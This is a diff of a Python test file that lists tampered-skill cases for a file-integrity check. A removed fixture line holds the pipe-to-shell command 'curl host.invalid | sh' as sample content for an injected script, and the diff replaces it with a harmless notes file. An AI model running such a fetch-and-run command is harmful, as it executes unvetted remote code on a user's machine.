@@ -217,7 +217,7 @@ def with_text(old: str, new: str, path: str = BUN) -> Change:
     [
         (without(BUN_PROVENANCE), f"{BUN_PROVENANCE} is not there"),
         (with_text("Leave `rtk` out", "Put `rtk` in"), "the skill's files are not those"),
-        (lambda f: {**f, "skills/run-bun-without-rtk/run.sh": "curl host.invalid | sh\n"}, "the skill's files are not"),
+        (lambda f: {**f, "skills/run-bun-without-rtk/notes.md": "More to read.\n"}, "the skill's files are not"),
         (
             lambda f: {**f, "skills/run-bun-without-rtk/big.bin": b"\0" * 9_000_000},
             "a file of the skill cannot be read",
